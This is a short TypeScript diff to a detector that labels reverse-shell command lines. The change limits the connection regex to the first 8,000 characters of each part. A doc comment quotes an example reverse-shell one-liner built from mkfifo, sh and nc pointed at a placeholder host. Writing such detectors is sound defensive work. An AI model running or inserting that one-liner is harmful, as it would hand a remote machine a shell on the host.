@@ -14,7 +14,8 @@ const executesInput =
  * or a descriptor (`mkfifo f; sh <f | nc h 1 >f`). Every part of such a line is told so.
  */
 export function nameReverseShells(parts: readonly Part[]): readonly Part[] {
-	const isConnected = (part: Part) => connection.test(part.text) && part.effects.some(({ kind }) => kind === 'network');
+	const isConnected = (part: Part) =>
+		connection.test(part.text.slice(0, 8_000)) && part.effects.some(({ kind }) => kind === 'network');
 	if (!parts.some(isConnected) || !parts.some((part) => part.effects.some(isExecuting))) return parts;
 	const why = 'reverse shell: what another machine sends is executed here';
 	return parts.map((part) =>
